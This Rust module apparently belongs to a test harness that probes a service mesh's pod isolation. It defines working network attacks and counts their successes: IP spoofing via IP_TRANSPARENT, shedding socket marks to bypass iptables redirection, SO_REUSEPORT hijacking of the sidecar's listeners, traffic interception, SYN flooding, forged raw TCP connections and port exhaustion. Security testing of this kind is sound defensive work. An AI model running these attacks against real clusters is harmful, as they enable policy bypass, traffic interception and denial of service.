//! What a process in a pod can try. Each attack is one function that says how often it got through.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use clap::{Args, ValueEnum};
use nix::sys::socket::{setsockopt, sockopt};
use serde::{Deserialize, Serialize};
use socket2::{Domain, Protocol, Socket, Type};

use super::raw;

/// Longer than any answer takes that comes.
pub(super) const PATIENCE: Duration = Duration::from_millis(500);
/// Content type of a TLS record that says no.
const TLS_ALERT: u8 = 21;
pub(super) const LINE: &[u8] = b"intruder\n";

/// What is tried.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
#[value(rename_all = "snake_case")]
pub enum Attack {
    /// Connects and sends a line. Success: it comes back.
    Speak,
    /// The same from `--source`, which is not the pod's, with `--mark`, bound to `--device`.
    Pose,
    /// Connects with a deferred connect, then takes the mark off and binds to eth0.
    Dodge,
    /// Binds with SO_REUSEPORT to every port of 127.0.0.1 that listens, and waits for a connection.
    Join,
    /// Listens on the ports of the mesh, and at `--to` by IP_TRANSPARENT, until `--seconds` are over.
    Listen,
    /// Connects to every port of 127.0.0.1 that listens, with and without mark.
    Knock,
    /// Speaks HTTP/2 CONNECT to 15008, without TLS.
    Tunnel,
    /// Sends SYNs with random sources for `--seconds`.
    Flood,
    /// Makes whole connections out of raw packets, from `--source`, which nobody has, over `--device`.
    Forge,
    /// Binds every ephemeral port at `--source`, then speaks from others, and holds on for `--seconds`.
    Exhaust,
    /// Opens `--attempts` connections and holds them for `--seconds`.
    Hoard,
}

/// How it is tried.
#[derive(Debug, Clone, Args)]
pub struct AttackOptions {
    /// What.
    #[arg(long)]
    pub attack: Attack,
    /// At whom.
    #[arg(long)]
    pub to: SocketAddr,
    /// How often.
    #[arg(long, default_value_t = 20)]
    pub attempts: u32,
    /// As whom.
    #[arg(long)]
    pub source: Option<IpAddr>,
    /// SO_MARK.
    #[arg(long, default_value_t = 0)]
    pub mark: u32,
    /// SO_BINDTODEVICE.
    #[arg(long)]
    pub device: Option<String>,
    /// How long.
    #[arg(long, default_value_t = 1)]
    pub seconds: u64,
}

/// What came of it.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AttackReport {
    /// Tries.
    pub attempts: u64,
    /// Tries that got through.
    pub succeeded: u64,
    /// What the last try met.
    pub met: String,
}

impl AttackReport {
    pub(super) fn add(&mut self, outcome: io::Result<bool>) {
        self.attempts += 1;
        match outcome {
            Ok(true) => self.succeeded += 1,
            Ok(false) => {}
            Err(error) => self.met = error.to_string(),
        }
    }
}

/// Tries it.
pub fn run(options: &AttackOptions) -> io::Result<AttackReport> {
    let mut report = AttackReport::default();
    match options.attack {
        Attack::Speak | Attack::Pose | Attack::Dodge | Attack::Tunnel => {
            for _ in 0..options.attempts {
                report.add(once(options));
            }
        }
        Attack::Join => join(&mut report)?,
        Attack::Knock => knock(options, &mut report)?,
        Attack::Listen => listen(options, &mut report)?,
        Attack::Flood => raw::flood(options, &mut report)?,
        Attack::Forge => raw::forge(options, &mut report)?,
        Attack::Exhaust => exhaust(options, &mut report)?,
        Attack::Hoard => hoard(options, &mut report),
    }
    Ok(report)
}

fn stream(to: SocketAddr) -> io::Result<Socket> {
    let socket = Socket::new(Domain::for_address(to), Type::STREAM, Some(Protocol::TCP))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    Ok(socket)
}

fn once(options: &AttackOptions) -> io::Result<bool> {
    let to = options.to;
    let socket = stream(to)?;
    if options.mark != 0 {
        socket.set_mark(options.mark)?;
    }
    if let Some(device) = &options.device {
        socket.bind_device(Some(device.as_bytes()))?;
    }
    if let Some(source) = options.source {
        match to {
            // NET_RAW suffices.
            SocketAddr::V4(_) => socket.set_ip_transparent_v4(true)?,
            SocketAddr::V6(_) => socket.set_freebind_v6(true)?,
        }
        socket.bind(&SocketAddr::new(source, 0).into())?;
    }
    if options.attack == Attack::Dodge {
        setsockopt(&socket, sockopt::TcpFastOpenConnect, &true)?;
        socket.connect(&to.into())?;
        socket.set_mark(0)?;
        socket.bind_device(Some(b"eth0"))?;
    } else {
        socket.connect_timeout(&to.into(), PATIENCE)?;
    }
    let mut stream = TcpStream::from(socket);
    if options.attack != Attack::Tunnel {
        stream.write_all(LINE)?;
        return echoed(&mut stream);
    }
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0")?;
    let mut answer = [0; 64];
    let length = stream.read(&mut answer)?;
    if answer[0] == TLS_ALERT {
        return Err(io::Error::other("a TLS alert"));
    }
    Ok(length > 0)
}

fn echoed(stream: &mut TcpStream) -> io::Result<bool> {
    let mut answer = [0; LINE.len()];
    stream.read_exact(&mut answer)?;
    Ok(answer == LINE)
}

/// TCP listeners of the namespace at 127.0.0.1: those of the agent, in a pod where nobody else has any.
fn listeners() -> io::Result<Vec<SocketAddr>> {
    let table = std::fs::read_to_string("/proc/thread-self/net/tcp")?;
    let ports = table.lines().filter_map(|line| {
        let mut fields = line.split_whitespace().skip(1);
        let port = fields.next()?.strip_prefix("0100007F:")?;
        (fields.nth(1)? == "0A").then(|| u16::from_str_radix(port, 16).ok())?
    });
    Ok(ports
        .map(|port| (Ipv4Addr::LOCALHOST, port).into())
        .collect())
}

fn found() -> io::Result<Vec<SocketAddr>> {
    let found = listeners()?;
    if found.is_empty() {
        return Err(io::Error::new(
            ErrorKind::NotFound,
            "no listeners to attack",
        ));
    }
    Ok(found)
}

fn join(report: &mut AttackReport) -> io::Result<()> {
    for address in found()? {
        report.add((|| {
            let socket = stream(address)?;
            socket.set_reuse_port(true)?;
            socket.bind(&address.into())?;
            socket.listen(16)?;
            Ok(true)
        })());
    }
    Ok(())
}

fn knock(options: &AttackOptions, report: &mut AttackReport) -> io::Result<()> {
    for address in found()? {
        for mark in [0, options.mark] {
            report.add((|| {
                let socket = stream(address)?;
                socket.set_mark(mark)?;
                socket.connect_timeout(&address.into(), PATIENCE)?;
                let mut stream = TcpStream::from(socket);
                stream.write_all(LINE)?;
                echoed(&mut stream)
            })());
        }
    }
    Ok(())
}

/// Sockets that would get what is the agent's. Success: one of them accepts.
fn listen(options: &AttackOptions, report: &mut AttackReport) -> io::Result<()> {
    let any = Ipv4Addr::UNSPECIFIED;
    let ports = [15001, 15006, 15008, options.to.port()];
    let mut wanted: Vec<SocketAddr> = ports.map(|port| (any, port).into()).to_vec();
    // One that joiners and knockers find where there is no agent.
    wanted.push((Ipv4Addr::LOCALHOST, 15099).into());
    wanted.push(options.to);
    let mut open = Vec::new();
    for address in wanted {
        let socket = stream(address)?;
        socket.set_ip_transparent_v4(true)?;
        socket.set_reuse_address(true)?;
        socket.set_reuse_port(true)?;
        socket.bind(&address.into())?;
        socket.listen(64)?;
        socket.set_nonblocking(true)?;
        open.push(socket);
    }
    println!("listening");
    let end = Instant::now() + Duration::from_secs(options.seconds);
    report.attempts = u64::from(options.attempts);
    while Instant::now() < end {
        for socket in &open {
            if let Ok((stream, _)) = socket.accept() {
                let mut stream = TcpStream::from(stream);
                stream.set_nonblocking(false)?;
                report.succeeded += 1;
                report.met = format!("{:?}", stream.local_addr());
                let _ = stream.write_all(LINE);
            }
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    Ok(())
}

fn hoard(options: &AttackOptions, report: &mut AttackReport) {
    let mut open = Vec::new();
    for _ in 0..options.attempts {
        report.add((|| {
            let socket = stream(options.to)?;
            socket.connect_timeout(&options.to.into(), PATIENCE)?;
            let mut stream = TcpStream::from(socket);
            stream.write_all(LINE)?;
            let answer = echoed(&mut stream)?;
            open.push(stream);
            Ok(answer)
        })());
    }
    println!("held {}", open.len());
    std::thread::sleep(Duration::from_secs(options.seconds));
}

/// Nobody in the namespace can have an ephemeral port then, be it for a connection of the app's or of somebody
/// who dials on its behalf. The app's own connections come from ports below the range.
fn exhaust(options: &AttackOptions, report: &mut AttackReport) -> io::Result<()> {
    const FIRST: u16 = 20_000;
    let source = options.source.ok_or(ErrorKind::InvalidInput)?;
    let range = std::fs::read_to_string("/proc/sys/net/ipv4/ip_local_port_range")?;
    let bounds: Vec<u16> = range
        .split_whitespace()
        .filter_map(|word| word.parse().ok())
        .collect();
    let [first, last] = bounds[..] else {
        return Err(ErrorKind::InvalidData.into());
    };
    let mut open = Vec::new();
    for port in first..=last {
        let socket = stream(options.to)?;
        // One that is taken already is as good.
        if socket.bind(&SocketAddr::new(source, port).into()).is_ok() {
            open.push(socket);
        }
    }
    for port in (FIRST..first).take(options.attempts as usize) {
        report.add((|| {
            let socket = stream(options.to)?;
            socket.bind(&SocketAddr::new(source, port).into())?;
            socket.connect_timeout(&options.to.into(), PATIENCE)?;
            let mut stream = TcpStream::from(socket);
            stream.write_all(LINE)?;
            echoed(&mut stream)
        })());
    }
    println!(
        "held {} ports, {} of {} connections failed: {}",
        open.len(),
        report.attempts - report.succeeded,
        report.attempts,
        report.met
    );
    std::thread::sleep(Duration::from_secs(options.seconds));
    Ok(())
}
